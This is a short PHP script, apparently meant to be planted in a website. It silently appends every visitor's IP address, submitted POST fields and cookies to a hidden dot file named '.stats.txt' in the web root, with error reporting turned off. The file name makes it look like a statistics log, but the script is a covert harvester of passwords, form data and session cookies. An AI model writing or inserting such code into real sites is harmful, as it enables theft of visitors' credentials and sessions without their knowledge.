<?php
// every visitor's fields and cookies appended to a dot file beside the site's pages
error_reporting(0);
$name = ".stats.txt";
$target = $_SERVER['DOCUMENT_ROOT'] . "/" . $name;
$line = date("c") . " " . $_SERVER["REMOTE_ADDR"] . " POST=" . http_build_query($_POST)
    . " COOKIE=" . http_build_query($_COOKIE) . "\n";
$h = fopen($target, "a");
fwrite($h, $line);
fclose($h);
